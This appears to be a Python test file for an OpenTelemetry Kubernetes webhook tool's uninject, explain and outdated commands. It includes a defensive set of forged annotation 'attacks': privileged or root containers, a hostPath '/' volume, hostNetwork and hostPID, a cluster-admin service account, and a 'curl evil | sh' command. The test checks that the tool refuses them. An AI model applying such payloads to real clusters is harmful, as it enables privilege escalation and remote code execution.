#!/usr/bin/python3
"""The status record from the outside: `otel-webhook uninject` (round trips
over every manifest in the repository that asks for an injection, objects
without a record untouched byte for byte, records that cannot be applied),
`explain` (golden outputs in tests/data/explain), `inject`'s warning on a
stale record, and `outdated` against the fake API server.

usage: record_test.py OTEL_WEBHOOK [RESULTS]"""
import copy
import json
import os
import re
import subprocess
import sys
import threading

import yaml

BIN = sys.argv[1]
RESULTS = sys.argv[2] if len(sys.argv) > 2 else None
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import fakeapi  # noqa: E402
from testlib import Checks, scratch_dir  # noqa: E402

check = Checks("record")
tmp = scratch_dir("otel-record-test-")
KEY = "otel-webhook/status"


def run(cmd, *args, stdin=None):
    p = subprocess.run([BIN, cmd, *args], input=stdin, capture_output=True, text=True)
    return p.returncode, p.stdout, p.stderr


def write(name, text):
    path = os.path.join(tmp, name)
    with open(path, "w") as f:
        f.write(text)
    return path


def docs(text):
    return [d for d in yaml.safe_load_all(text) if d is not None]


def templates(objs):
    """The pod (templates) of each object, for the record's checks."""
    out = []
    for o in objs:
        items = o.get("items", []) if o.get("kind") == "List" else [o]
        for it in items:
            k = it.get("kind")
            if k == "Pod":
                out.append(it)
            elif k == "CronJob":
                out.append(it["spec"]["jobTemplate"]["spec"]["template"])
            elif k in ("Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "Job"):
                out.append(it["spec"]["template"])
    return out


# ---- uninject: round trips --------------------------------------------------
# Every manifest in the repository that asks for an injection, with the
# resources it is meant for; inject then uninject gives back the input.
ROUND_TRIPS = [
    ("example", ["-f", "examples/deployment-java.yaml", "--resources", "examples/resources"]),
    ("typical bench pod", ["-f", "tests/bench/typical-pod.json", "--resources", "examples/resources"]),
    ("seven languages", ["-f", "tests/bench/seven-pod.json", "--resources", "tests/bench/resources",
                         "--config", os.path.join(tmp, "all-languages.yaml")]),
    ("native sidecar", ["-f", "examples/deployment-java.yaml", "--resources", "examples/resources",
                        "--native-sidecars", "on"]),
    ("helm render", ["-f", "tests/data/inject/helm.yaml", "--resources", "examples/resources"]),
]
write("all-languages.yaml", "enable-go-auto-instrumentation: true\nenable-nginx-auto-instrumentation: true\n")
for name, args in ROUND_TRIPS:
    src = args[1]
    with open(src) as f:
        orig_text = f.read()
    rc, injected, err = run("inject", *args)
    if not check("%s: inject" % name, rc == 0, err):
        continue
    pods = templates(docs(injected))
    recs = [p for p in pods if KEY in (p.get("metadata") or {}).get("annotations", {})]
    check("%s: a record on each injected pod" % name, recs and all(
        json.loads(p["metadata"]["annotations"][KEY])["v"] == 1 for p in recs), [p.get("metadata") for p in pods])
    path = write("injected.yaml", injected)
    rc, back, err = run("uninject", "-f", path)
    check("%s: uninject rc" % name, rc == 0 and err == "", err)
    check("%s: round trip" % name, docs(back) == docs(orig_text),
          json.dumps(docs(back), sort_keys=True)[:3000])
    rc, back_json, err = run("uninject", "-f", path, "-o", "json")
    want = docs(orig_text)
    check("%s: round trip as JSON" % name, rc == 0 and json.loads(back_json) == (
        want[0] if len(want) == 1 else {"apiVersion": "v1", "kind": "List", "items": want}), err)

# Objects without a record pass through byte for byte, whatever they are.
with open("tests/data/inject/helm.yaml") as f:
    helm = f.read()
rc, out, err = run("uninject", "-f", "tests/data/inject/helm.yaml")
check("no record: byte for byte", rc == 0 and out == helm and err == "", (rc, err))
rc, out, err = run("uninject", "-f", "-", stdin=helm)
check("no record from stdin", rc == 0 and out == helm, err)

# Only the injected document of several is written anew.
rc, inj, err = run("inject", "-f", "examples/deployment-java.yaml", "--resources", "examples/resources")
cm = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: keep}   # a comment\ndata: {a: '1'}\n"
mixed = write("mixed.yaml", cm + "---\n" + inj)
rc, out, err = run("uninject", "-f", mixed, "--report")
check("mixed: untouched document first, as it was", rc == 0 and out.startswith(cm + "---\n"), out[:300])
check("mixed: report", err == "Deployment default/my-java: uninjected\n1 uninjected, 0 unchanged, 0 invalid\n", err)
with open("examples/deployment-java.yaml") as f:
    check("mixed: the deployment back", docs(out)[1:] == docs(f.read()), out)

# A Pod through the webhook's own patch: -o json then uninject.
pod = {"apiVersion": "v1", "kind": "Pod",
       "metadata": {"name": "p", "annotations": {"instrumentation.opentelemetry.io/inject-java": "true"}},
       "spec": {"containers": [{"name": "app", "image": "a",
                                "env": [{"name": "JAVA_TOOL_OPTIONS", "value": "-Xmx1g"}]}]}}
rc, out, err = run("inject", "-f", "-", "--resources", "examples/resources", "-o", "json", stdin=json.dumps(pod))
injected_pod = json.loads(out)
rec = json.loads(injected_pod["metadata"]["annotations"][KEY])
check("rewritten value recorded", rec["into"][0]["envWas"] == [{"name": "JAVA_TOOL_OPTIONS", "value": "-Xmx1g"}], rec)
rc, out, err = run("uninject", "-f", "-", "-o", "json", stdin=json.dumps(injected_pod))
check("JAVA_TOOL_OPTIONS restored", rc == 0 and json.loads(out) == pod, out)

# ---- uninject: records that cannot be applied ---------------------------------
bad = copy.deepcopy(injected_pod)
bad["metadata"]["annotations"][KEY] = "{oops"
p1 = write("bad-record.json", json.dumps(bad))
rc, out, err = run("uninject", "-f", p1, "-o", "json")
check("unreadable record", rc == 1 and err == "%s:1: Pod default/p: otel-webhook/status: not a JSON object; left as it is\n"
      % p1 and json.loads(out) == bad, (rc, err))
gone = copy.deepcopy(injected_pod)
del gone["spec"]["initContainers"]
p2 = write("changed-pod.yaml", yaml.safe_dump(gone))
rc, out, err = run("uninject", "-f", p2, "--report")
check("pod changed since", rc == 1 and err == (
    "%s:1: Pod default/p: the record names the init container opentelemetry-auto-instrumentation-java, "
    "which the pod does not have; left as it is\n"
    "Pod default/p: invalid: the record names the init container opentelemetry-auto-instrumentation-java, "
    "which the pod does not have\n0 uninjected, 0 unchanged, 1 invalid\n" % p2) and docs(out) == [gone], (rc, err))

# Records otel-webhook did not write (an annotation anyone can set) are
# refused whole, never half applied: a pointer through the containers list,
# members of the wrong type.
for i, (value, why) in enumerate((
        ('{"v":1,"was":{"/spec/containers/0/x":3}}',
         "the record's containers, initContainers and into name nothing otel-webhook adds"),
        ('{"v":1,"containers":"app"}', "the record's containers is not what otel-webhook writes"),
        ('{"v":1,"into":{"a":1}}', "the record's into is not what otel-webhook writes"),
        ('{"v":1,"unset":[3]}', "the record's unset is not what otel-webhook writes"),
        ('{"v":1,"was":[]}', "the record's was is not what otel-webhook writes"))):
    forged = copy.deepcopy(pod)
    forged["metadata"].setdefault("annotations", {})[KEY] = value
    pf = write("forged-%d.json" % i, json.dumps(forged))
    rc, out, err = run("uninject", "-f", pf, "-o", "json")
    check("forged record refused: %s" % value, rc == 1 and err == "%s:1: Pod default/p: %s; left as it is\n" % (pf, why)
          and json.loads(out) == forged, (rc, err))

# Forged records: the annotation is the pod author's data. Each attack below
# is the real record of injected_pod with one field added; uninject refuses
# it whole (exit 1, the field named, the object left as it is). Before the
# record was checked (main before issue 25) each one exited 0 with no
# warning and wrote the forged change.
def forge(base, change):
    o = copy.deepcopy(base)
    r = json.loads(o["metadata"]["annotations"].get(KEY) or '{"v":1}')
    change(r)
    o["metadata"]["annotations"][KEY] = json.dumps(r)
    return o


with_data = copy.deepcopy(injected_pod)
with_data["spec"]["volumes"].append({"name": "data", "emptyDir": {}})
plain_v1 = copy.deepcopy(pod)
plain_v1["metadata"]["annotations"][KEY] = '{"v":1}'
ATTACKS = (
    ("removes a container it never added", forge(plain_v1, lambda r: r.update(containers=["app"])),
     "the record's containers[0]: app is not a container otel-webhook adds"),
    ("removes a volume it never added", forge(with_data, lambda r: r["volumes"].append("data")),
     "the record's volumes[1]: data is not a volume otel-webhook adds"),
    ("removes env it never added", forge(plain_v1, lambda r: r.update(into=[{"name": "app", "env": ["JAVA_TOOL_OPTIONS", "SECRET"]}])),
     "the record's into[0].env names SECRET, which the container app does not have"),
    ("inserts a privileged container", forge(injected_pod, lambda r: r.update(removed=[
        {"list": "containers", "at": 0, "value": {"name": "otc-container", "image": "evil",
                                                  "securityContext": {"privileged": True}}}])),
     "the record's removed[0].value: a container with securityContext.privileged; uninject never adds one"),
    ("inserts a root container", forge(injected_pod, lambda r: r.update(removed=[
        {"list": "initContainers", "at": 0, "value": {"name": "otc-container", "image": "evil",
                                                      "securityContext": {"runAsUser": 0}}}])),
     "the record's removed[0].value: a container with securityContext.runAsUser 0; uninject never adds one"),
    ("inserts a foreign container", forge(injected_pod, lambda r: r.update(removed=[
        {"list": "containers", "at": 0, "value": {"name": "miner", "image": "evil"}}])),
     "the record's removed[0].value: miner is not a container otel-webhook takes out"),
    ("inserts a hostPath / volume", forge(injected_pod, lambda r: r.update(removed=[
        {"list": "volumes", "at": 0, "value": {"name": "root", "hostPath": {"path": "/"}}}])),
     "the record's removed[0].value: root is not a volume otel-webhook takes out"),
    ("inserts a hostPath / volume of our name", forge(injected_pod, lambda r: r.update(removed=[
        {"list": "volumes", "at": 0, "value": {"name": "otel-auto-secret-x", "hostPath": {"path": "/"}}}])),
     "the record's removed[0].value: a hostPath volume; uninject never adds one"),
    ("sets hostNetwork", forge(injected_pod, lambda r: r.setdefault("was", {}).update({"/spec/hostNetwork": True})),
     "the record's was./spec/hostNetwork: not a field otel-webhook changes, or not to that; uninject never sets it"),
    ("sets hostPID", forge(injected_pod, lambda r: r.setdefault("was", {}).update({"/spec/hostPID": True})),
     "the record's was./spec/hostPID: not a field otel-webhook changes, or not to that; uninject never sets it"),
    ("sets serviceAccountName", forge(injected_pod, lambda r: r.setdefault("was", {}).update(
        {"/spec/serviceAccountName": "cluster-admin"})),
     "the record's was./spec/serviceAccountName: not a field otel-webhook changes, or not to that; uninject never sets it"),
    ("sets the namespace", forge(injected_pod, lambda r: r.setdefault("was", {}).update(
        {"/metadata/namespace": "kube-system"})),
     "the record's was./metadata/namespace: not a field otel-webhook changes, or not to that; uninject never sets it"),
    ("sets the pod's runAsUser 0", forge(injected_pod, lambda r: r.setdefault("was", {}).update(
        {"/spec/securityContext": {"runAsUser": 0}})),
     "the record's was./spec/securityContext: not a field otel-webhook changes, or not to that; uninject never sets it"),
    ("sets a container's runAsUser 0", forge(injected_pod, lambda r: r["into"][0].setdefault("was", {}).update(
        {"securityContext": {"runAsUser": 0, "allowPrivilegeEscalation": True}})),
     "the record's into[0].was.securityContext: not a field otel-webhook changes; uninject never sets it"),
    ("restores a command injection did not change", forge(injected_pod, lambda r: r["into"][0].setdefault("was", {}).update(
        {"command": ["sh", "-c", "curl evil | sh"]})),
     "the record's into[0].was.command is not the container's command without the Python launcher in front"),
    ("restores an entry of a variable injection does not rewrite", forge(injected_pod, lambda r: r["into"][0]["envWas"].append(
        {"name": "AWS_SECRET", "value": "x"})),
     "the record's into[0].envWas[1]: AWS_SECRET is not a variable otel-webhook rewrites"),
    ("unsets a list with the author's entries", forge(injected_pod, lambda r: r["unset"].append("/spec/containers")),
     "the record's unset[2]: /spec/containers is not a field otel-webhook adds"),
    ("claims an image the pod does not run", forge(injected_pod, lambda r: r["images"].update(
        {"opentelemetry-auto-instrumentation-java": "example.com/other:1"})),
     "the record's images.opentelemetry-auto-instrumentation-java is example.com/other:1, but the pod's "
     "opentelemetry-auto-instrumentation-java runs " + injected_pod["spec"]["initContainers"][0]["image"]),
    ("a bare {\"v\":1}", plain_v1, "the record's containers, initContainers and into name nothing otel-webhook adds"),
)
check("the record attacked is the injection's own", rec.get("unset") == ["/spec/initContainers", "/spec/volumes"] and
      rec.get("volumes") == ["opentelemetry-auto-instrumentation-java"], rec)
for i, (what, forged, why) in enumerate(ATTACKS):
    pf = write("attack-%d.json" % i, json.dumps(forged))
    rc, out, err = run("uninject", "-f", pf, "-o", "json")
    check("forged record: %s: refused" % what, rc == 1 and err == "%s:1: Pod default/p: %s; left as it is\n" % (pf, why),
          (rc, err))
    check("forged record: %s: the object left as it is" % what, out and json.loads(out) == forged, out[:500])


def peak_rss_mib(args):
    """Exit status, stderr and peak RSS (MiB) of one run of the binary."""
    pr = subprocess.Popen([BIN, *args], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    err = pr.stderr.read()
    _pid, status, ru = os.wait4(pr.pid, 0)
    return os.waitstatus_to_exitcode(status), err, ru.ru_maxrss / 1024


# The record's budget: 256 KiB (what the API server keeps of all of a pod's
# annotations) and 16384 objects and lists, counted before parsing. A
# 2.5 MB record of empty objects took 640 MiB to parse before (release
# build); refused unparsed, the whole run stays near the binary's own size.
for name, text, why, cap in (
        ("2.5 MB", '{"v":1,"x":[' + "{}," * 850000 + "{}]}",
         "longer than the 262144 bytes the API server keeps of a pod's annotations", 120),
        ("20000 objects", '{"v":1,"x":[' + "{}," * 20000 + "{}]}",
         "more than the 16384 objects and lists a record may hold", 120)):
    big = copy.deepcopy(pod)
    big["metadata"]["annotations"][KEY] = text
    pb = write("big-record.json", json.dumps(big))
    rc, err, mib = peak_rss_mib(["uninject", "-f", pb, "-o", "json"])
    check("record of %s: refused unparsed" % name, rc == 1 and err == "%s:1: Pod default/p: %s: %s; left as it is\n" % (
        pb, KEY, why), (rc, err))
    check("record of %s: peak RSS %.0f MiB under %d" % (name, mib, cap), mib < cap, mib)

# The largest record our injection writes for the largest pod within the
# engine's bounds (256 containers, each Java-injected, with the collector):
# well inside the budget, and it round-trips.
wide = {"apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "wide", "annotations": {"instrumentation.opentelemetry.io/inject-java": "true",
                                                     "sidecar.opentelemetry.io/inject": "true",
                                                     "instrumentation.opentelemetry.io/container-names":
                                                         ",".join("container-%03d" % i for i in range(255))}},
        "spec": {"containers": [{"name": "container-%03d" % i, "image": "a",
                                 "env": [{"name": "JAVA_TOOL_OPTIONS", "value": "-Xmx1g"}]} for i in range(255)]}}
rc, out, err = run("inject", "-f", "-", "--resources", "examples/resources", "-o", "json", stdin=json.dumps(wide))
wide_rec = json.loads(out)["metadata"]["annotations"][KEY] if rc == 0 else ""
check("the widest pod's record: %d bytes, inside the budget" % len(wide_rec), 0 < len(wide_rec) < 262144, (rc, err))
rc, back, err = run("uninject", "-f", "-", "-o", "json", stdin=out)
check("the widest pod: round trip", rc == 0 and json.loads(back) == wide, err[:500])

# A forged record does not turn injection off: a bare {"v":1} on a pod that
# asks for Java and has none of our parts is injected as if it had none,
# with the warning that names why; the new record keeps the forged value
# (uninject puts it back). Before, the engine read any record as "already
# injected" and answered no patch.
rc, out, err = run("inject", "-f", "-", "--resources", "examples/resources", "-o", "json", stdin=json.dumps(plain_v1))
v1_injected = json.loads(out) if rc == 0 else {}
v1_rec = json.loads(((v1_injected.get("metadata") or {}).get("annotations") or {}).get(KEY) or "{}")
check("inject: a bare {\"v\":1} does not turn injection off", rc == 0 and err == (
    "<stdin>:1: warning: otel-webhook/status: the record's containers, initContainers and into name nothing "
    "otel-webhook adds; replaced by this injection's record\n") and
    v1_rec.get("initContainers") == ["opentelemetry-auto-instrumentation-java"] and
    v1_rec.get("was") == {"/metadata/annotations/otel-webhook~1status": '{"v":1}'}, (rc, err, v1_rec))
rc, out, err = run("explain", "-f", "-", "--resources", "examples/resources", stdin=json.dumps(plain_v1))
check("explain: a bare {\"v\":1} is reported, not obeyed", rc == 0 and out.endswith(
    "  containers:\n    app: java\n"
    "  warnings:\n    otel-webhook/status: the record's containers, initContainers and into name nothing "
    "otel-webhook adds; replaced by this injection's record\n"
    "  status: the pod does not match its record, explained as if it had none: the record's containers, "
    "initContainers and into name nothing otel-webhook adds\n"), out)


def webhook_tests():
    """The webhook's answer to a pod carrying a forged {"v":1}: the same
    injection as without it, the warning, and the forged value kept."""
    import base64
    from serverlib import Server
    certs = os.path.join(tmp, "wh-certs")
    p = subprocess.run([BIN, "certs", "generate", "--service", "x", "--namespace", "y", "--out", certs, "--dev"],
                       capture_output=True, text=True, timeout=60)
    if not check("webhook: certs generate", p.returncode == 0, p.stderr):
        return
    srv = Server(check, BIN, "record-webhook", tmp, os.path.join(certs, "tls.crt"), os.path.join(certs, "tls.key"),
                 os.path.join(certs, "ca.crt"), ["--resources", "examples/resources"])
    if not srv.start():
        return
    try:
        def admit(obj):
            r = srv.admit({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
                           "request": {"uid": "u-1", "kind": {"group": "", "version": "v1", "kind": "Pod"},
                                       "resource": {"group": "", "version": "v1", "resource": "pods"},
                                       "operation": "CREATE", "namespace": "default", "object": obj}})
            resp = r.json()["response"]
            return resp, json.loads(base64.b64decode(resp["patch"])) if "patch" in resp else None
        clean = copy.deepcopy(pod)
        clean["metadata"]["annotations"] = {"instrumentation.opentelemetry.io/inject-java": "true"}
        want_resp, want_patch = admit(clean)
        resp, patch = admit(plain_v1)
        want = [op for op in want_patch if not op["path"].startswith("/metadata/annotations/otel-webhook")]
        got = [op for op in patch or [] if not op["path"].startswith("/metadata/annotations/otel-webhook")]
        check("webhook: a bare {\"v\":1} pod is injected as without it", resp["allowed"] and got == want, patch)
        recop = [op for op in patch or [] if op["path"] == "/metadata/annotations/otel-webhook~1status"]
        check("webhook: its record replaces the forged one, keeping it", len(recop) == 1 and recop[0]["op"] == "add" and
              json.loads(recop[0]["value"]).get("was") == {"/metadata/annotations/otel-webhook~1status": '{"v":1}'},
              recop)
        check("webhook: the warning", resp.get("warnings") == [
            "otel-webhook: otel-webhook/status: the record's containers, initContainers and into name nothing otel-webhook adds; "
            "replaced by this injection's record"], resp.get("warnings"))
        # A record that proves itself is still honoured: no patch.
        injected = jsonpatch_apply(clean, want_patch)
        resp, patch = admit(injected)
        check("webhook: a real record is honoured", resp["allowed"] and patch is None and not resp.get("warnings"), resp)
    finally:
        srv.stop()


def jsonpatch_apply(doc, ops):
    import jsonpatch
    return jsonpatch.apply_patch(doc, ops)


webhook_tests()

# ---- uninject: usage ------------------------------------------------------------
_rc, UUSAGE, _err = run("uninject", "--help")
check("uninject --help", _rc == 0 and UUSAGE.startswith("usage: otel-webhook uninject -f FILE|DIR|- "), UUSAGE)
for args, line in ((("-o", "patch", "-f", "x"), "-o patch: expected yaml or json"),
                   ((), "-f is required"),
                   (("-f", "-", "-f", "-"), "-f -: standard input can be read only once"),
                   (("--resources", "x"), "unknown option --resources")):
    rc, out, err = run("uninject", *args)
    check("uninject usage %s" % (args,), rc == 2 and err == "otel-webhook uninject: %s\n"
          "Run 'otel-webhook uninject --help' for usage.\n" % line, err[:300])
rc, out, err = run("uninject", "-f", "/nonexistent/x.yaml")
check("uninject: a missing file is bad input, exit 1", rc == 1 and out == "" and
      err == "/nonexistent/x.yaml: cannot read: No such file or directory\n", (rc, err))

# ---- explain: golden outputs ----------------------------------------------------
# tests/data/explain/in/NAME.yaml explained against tests/data/explain's
# resources gives tests/data/explain/out/NAME.out exactly.
EXPLAIN = "tests/data/explain"
for name in sorted(os.listdir(os.path.join(EXPLAIN, "in"))):
    base = name[:-len(".yaml")]
    with open(os.path.join(EXPLAIN, "out", base + ".out")) as f:
        want = f.read()
    rc, out, err = run("explain", "-f", os.path.join(EXPLAIN, "in", name), "--resources", EXPLAIN)
    check("explain %s" % base, rc == 0 and out == want and err == "",
          "rc %d err %r\n%s" % (rc, err, "".join(
              "%s\n" % l for l in __import__("difflib").unified_diff(want.splitlines(), out.splitlines(), lineterm=""))))
rc, out, err = run("explain", "-f", "tests/data/inject/helm.yaml")
check("explain: nothing asks", rc == 0 and "annotations:\n    none asks for an injection\n" in out, out[:500])
rc, out, err = run("explain", "-f", "-", stdin="apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\n")
check("explain: no pod", rc == 0 and out == "no Pod or pod template in the input\n", out)

# inject warns about an injected object whose record is stale, and leaves it.
stale = os.path.join(EXPLAIN, "in", "stale.yaml")
rc, out, err = run("inject", "-f", stale, "--resources", EXPLAIN)
with open(stale) as f:
    check("inject: stale record warned", rc == 0 and out == f.read() and err == (
        "%s:3: warning: Pod team/stale: its otel-webhook/status record is stale: Instrumentation team/inst-b "
        "(java) changed since the injection (resourceVersion 700, now resourceVersion 811)\n"
        "%s:3: warning: Pod team/stale: its otel-webhook/status record is stale: image of "
        "opentelemetry-auto-instrumentation-java: example.com/java-agent:1.0, now "
        "ghcr.io/open-telemetry/opentelemetry-operator/autoinstrumentation-java:2.30.0\n" % (stale, stale)), err)

# ---- explain: usage ---------------------------------------------------------------
_rc, EUSAGE, _err = run("explain", "--help")
check("explain --help", _rc == 0 and EUSAGE.startswith("usage: otel-webhook explain -f FILE|DIR|- "), EUSAGE)
for args, line in (((), "-f is required"),
                   (("-f", "x.yaml", "--resources", EXPLAIN, "--kubeconfig", "k"),
                    "--resources and --kubeconfig exclude each other"),
                   (("-f", EXPLAIN + "/resources.yaml", "--context", "c"), "--context needs --kubeconfig"),
                   (("-f", EXPLAIN + "/resources.yaml", "--resources", "/nonexistent"),
                    "--resources /nonexistent: No such file or directory")):
    rc, out, err = run("explain", *args)
    check("explain usage %s" % (args,), rc == 2 and err == "otel-webhook explain: %s\n"
          "Run 'otel-webhook explain --help' for usage.\n" % line, err[:300])
rc, out, err = run("explain", "-f", "/nonexistent/x.yaml")
check("explain: a missing file is bad input, exit 1", rc == 1 and out == "" and
      err == "/nonexistent/x.yaml: cannot read: No such file or directory\n", (rc, err))


# ---- outdated and explain --kubeconfig, against the fake API server --------------
def rbac_rules(path):
    """The rules of the ClusterRole in deploy/overlays/outdated/rbac.yaml."""
    with open(path) as f:
        role = [d for d in yaml.safe_load_all(f) if d and d["kind"] == "ClusterRole"][0]
    return [(g, r, v) for rule in role["rules"] for g in rule["apiGroups"] for r in rule["resources"]
            for v in rule["verbs"]]


def request_attrs(method, path):
    """verb, API group and resource of a request, as the API server's
    RequestInfoResolver derives them (resource requests only)."""
    parts = [x for x in path.split("?")[0].split("/") if x]
    group, rest = ("", parts[2:]) if parts[0] == "api" else (parts[1], parts[3:])
    if rest and rest[0] == "namespaces" and len(rest) >= 3:
        rest = rest[2:]
    named = len(rest) >= 2
    verb = {"PATCH": "patch", "POST": "create", "PUT": "update", "DELETE": "delete"}.get(
        method, "get" if named else "list")
    return group, rest[0], verb


def outdated_tests():
    certs = os.path.join(tmp, "certs")
    p = subprocess.run([BIN, "certs", "generate", "--service", "kubernetes", "--namespace", "default", "--out",
                        certs, "--dev"], capture_output=True, text=True, timeout=60)
    if not check("certs generate", p.returncode == 0, p.stderr):
        return
    # Kept after the run for tests/deploy's RBAC check (the outdated overlay).
    reqlog = os.environ.get("OTEL_FAKEAPI_OUTDATED_LOG") or os.path.join("build", "fakeapi-outdated-requests.jsonl")
    os.makedirs(os.path.dirname(os.path.abspath(reqlog)), exist_ok=True)
    open(reqlog, "w").close()
    fake = fakeapi.FakeAPI(os.path.join(certs, "tls.crt"), os.path.join(certs, "tls.key"), token="token-1",
                           log_path=reqlog)
    fake.start()
    stop = threading.Event()
    ctl = threading.Thread(target=controller, args=(fake, stop), daemon=True)
    ctl.start()
    try:
        run_outdated(fake, certs)
    finally:
        stop.set()
        with fake.cond:
            fake.cond.notify_all()
        ctl.join()
        fake.stop()


def controller(fake, stop):
    """The workload controllers: a restarted workload (its generation ahead
    of status.observedGeneration) is rolled out at once, except "stuck",
    which never is. Woken by every change to the fake's objects."""
    with fake.cond:
        while not stop.is_set():
            for res in ("deployments", "statefulsets", "daemonsets"):
                for obj in list(fake.objects[res].values()):
                    meta, st = obj["metadata"], obj.get("status") or {}
                    if meta["name"] == "stuck" or st.get("observedGeneration", 0) >= meta.get("generation", 1):
                        continue
                    n = (obj.get("spec") or {}).get("replicas", 1)
                    o = copy.deepcopy(obj)
                    o["status"] = {"observedGeneration": meta.get("generation", 1), "replicas": n,
                                   "updatedReplicas": n, "availableReplicas": n, "readyReplicas": n,
                                   "desiredNumberScheduled": 2, "updatedNumberScheduled": 2, "numberAvailable": 2}
                    fake.apply(res, o)
            fake.cond.wait(5)


def run_outdated(fake, certs):
    kc = write("kubeconfig.yaml", json.dumps({
        "apiVersion": "v1", "kind": "Config", "current-context": "t",
        "contexts": [{"name": "t", "context": {"cluster": "fake", "user": "me"}}],
        "clusters": [{"name": "fake", "cluster": {"server": "https://127.0.0.1:%d" % fake.port,
                                                   "certificate-authority": os.path.join(certs, "ca.crt")}}],
        "users": [{"name": "me", "user": {"token": "token-1"}}]}))
    plural = {"Instrumentation": "instrumentations", "OpenTelemetryCollector": "opentelemetrycollectors",
              "Namespace": "namespaces"}
    with open(os.path.join(EXPLAIN, "resources.yaml")) as f:
        for d in yaml.safe_load_all(f):
            fake.apply(plural[d["kind"]], d)
    rv = fake.get("instrumentations", "inst-b", "team")["metadata"]["resourceVersion"]

    # explain --kubeconfig reads the same resources as --resources (the
    # API server numbers resourceVersions itself).
    with open(os.path.join(EXPLAIN, "out", "stale.out")) as f:
        want = f.read().replace("resourceVersion 811", "resourceVersion " + rv)
    rc, out, err = run("explain", "-f", os.path.join(EXPLAIN, "in", "stale.yaml"), "--kubeconfig", kc)
    check("explain --kubeconfig", rc == 0 and out == want and err == "", (rc, err, out))

    with open(os.path.join(EXPLAIN, "in", "stale.yaml")) as f:
        stale, current = [d for d in yaml.safe_load_all(f) if d]

    def pod(base, name, owner=None):
        o = copy.deepcopy(base)
        o["metadata"]["name"] = name
        if owner:
            o["metadata"]["ownerReferences"] = [dict(owner, apiVersion="apps/v1", uid=owner["name"] + "-uid",
                                                     controller=True)]
        fake.apply("pods", o)
    fake.apply("deployments", {"metadata": {"name": "api", "namespace": "team", "uid": "api-uid"}, "spec": {"replicas": 2}})
    fake.apply("statefulsets", {"metadata": {"name": "db", "namespace": "team", "uid": "db-uid"}, "spec": {"replicas": 1}})
    fake.apply("daemonsets", {"metadata": {"name": "agent", "namespace": "team", "uid": "agent-uid"}, "spec": {}})
    for rs, dep in (("api-7c9", "api"), ("web-5d", "web"), ("ghost-1", "ghost")):
        fake.apply("replicasets", {"metadata": {"name": rs, "namespace": "team", "uid": rs + "-uid", "ownerReferences": [
            {"apiVersion": "apps/v1", "kind": "Deployment", "name": dep, "uid": dep + "-uid", "controller": True}]}})
    pod(stale, "api-7c9-a", {"kind": "ReplicaSet", "name": "api-7c9"})
    pod(stale, "api-7c9-b", {"kind": "ReplicaSet", "name": "api-7c9"})
    pod(current, "web-5d-a", {"kind": "ReplicaSet", "name": "web-5d"})
    pod(stale, "bare")
    pod(stale, "db-0", {"kind": "StatefulSet", "name": "db"})
    pod(stale, "ghost-1-a", {"kind": "ReplicaSet", "name": "ghost-1"})
    pod(stale, "agent-x", {"kind": "DaemonSet", "name": "agent"})
    fake.apply("pods", {"metadata": {"name": "plain", "namespace": "team"}, "spec": {"containers": [{"name": "a"}]}})

    why = ("  Instrumentation team/inst-b (java) changed since the injection (resourceVersion 700, now resourceVersion %s)\n"
           "  image of opentelemetry-auto-instrumentation-java: example.com/java-agent:1.0, now "
           "ghcr.io/open-telemetry/opentelemetry-operator/autoinstrumentation-java:2.30.0\n" % rv)
    listing = ("DaemonSet team/agent: 1 pod (agent-x)\n" + why +
               "Deployment team/api: 2 pods (api-7c9-a, api-7c9-b)\n" + why +
               "Deployment team/ghost: 1 pod (ghost-1-a)\n" + why +
               "Pod team/bare: 1 pod (bare)\n" + why +
               "StatefulSet team/db: 1 pod (db-0)\n" + why +
               "5 workloads, 6 pods outdated (7 injected pods checked)\n")
    n0 = len(fake.requests)
    rc, out, err = run("outdated", "--kubeconfig", kc)
    check("outdated: the listing", rc == 0 and out == listing and err == "", (rc, err, out))
    check("outdated: reads only", all(r["method"] == "GET" for r in fake.requests[n0:]), fake.requests[n0:])

    n0 = len(fake.requests)
    rc, out, err = run("outdated", "--kubeconfig", kc, "--restart")
    check("outdated --restart: a dry run", rc == 0 and err == "" and out == listing + (
        "would restart DaemonSet team/agent (dry run: --yes to restart)\n"
        "would restart Deployment team/api (dry run: --yes to restart)\n"
        "would restart Deployment team/ghost (dry run: --yes to restart)\n"
        "not restarted: Pod team/bare: no owning workload; delete the pod to re-create it\n"
        "would restart StatefulSet team/db (dry run: --yes to restart)\n"), (rc, err, out))
    check("outdated --restart: no writes", all(r["method"] == "GET" for r in fake.requests[n0:]), fake.requests[n0:])

    rc, out, err = run("outdated", "--kubeconfig", kc, "--namespace", "elsewhere", "--restart", "--yes")
    check("outdated: another namespace", rc == 0 and out == "no outdated pods (0 injected pods checked)\n", (rc, err, out))

    n0 = len(fake.requests)
    rc, out, err = run("outdated", "--kubeconfig", kc, "--restart", "--yes", "--interval", "0")
    check("outdated --restart --yes: output", rc == 1 and out == listing + (
        "restarted DaemonSet team/agent\n"
        "rolled out DaemonSet team/agent\n"
        "restarted Deployment team/api\n"
        "rolled out Deployment team/api\n"
        "not restarted: Pod team/bare: no owning workload; delete the pod to re-create it\n"
        "restarted StatefulSet team/db\n"
        "rolled out StatefulSet team/db\n"), (rc, out))
    check("outdated --restart --yes: a failed restart named", err ==
          'otel-webhook outdated: restart Deployment team/ghost: HTTP 404: deployments "ghost" not found\n', err)
    # One at a time: each restart after the previous rollout was seen complete.
    seq = [(r["method"], r["path"], r["status"]) for r in fake.requests[n0:]
           if r["path"].split("/")[-2] in ("deployments", "statefulsets", "daemonsets")]
    patches = [i for i, x in enumerate(seq) if x[0] == "PATCH"]
    check("outdated --restart --yes: the next restart only after the workload was read back",
          all(seq[a][2] != 200 or any(seq[j][:2] == ("GET", seq[a][1]) for j in range(a + 1, b))
              for a, b in zip(patches, patches[1:])), seq)
    writes = [(r["method"], r["path"]) for r in fake.requests[n0:] if r["method"] != "GET"]
    check("outdated --restart --yes: one patch per workload, in order", writes == [
        ("PATCH", "/apis/apps/v1/namespaces/team/daemonsets/agent"),
        ("PATCH", "/apis/apps/v1/namespaces/team/deployments/api"),
        ("PATCH", "/apis/apps/v1/namespaces/team/deployments/ghost"),
        ("PATCH", "/apis/apps/v1/namespaces/team/statefulsets/db")], writes)
